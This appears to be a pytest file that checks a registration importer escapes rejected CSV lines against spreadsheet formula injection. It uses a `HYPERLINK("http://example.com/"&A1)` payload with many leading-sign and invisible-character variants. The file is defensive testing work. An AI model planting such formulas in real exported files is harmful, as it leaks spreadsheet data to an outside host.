"""FILE.rejected.csv in a spreadsheet: a line that somebody else wrote stays a text."""

from pathlib import Path

import pytest

from tests.registration.registry.importing import OMID_LINE, SARA_LINE, Imported, write

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "＝", "＋", "－", "＠", " =", "\u200f=", "\ufeff@"])
def test_a_rejected_line_is_no_formula_to_a_spreadsheet(file: Path, sign: str) -> None:
    bad = f'{sign}HYPERLINK("http://example.com/"&A1),{OMID_LINE}'
    [_, line] = Imported(write(file, bad)).rejected
    assert line[3] == f"'{bad}"


def test_a_rejected_line_that_only_holds_such_signs_stays(file: Path) -> None:
    bad = SARA_LINE.replace("سارا", "=سارا")
    [_, line] = Imported(write(file, bad)).rejected
    assert line[3] == bad
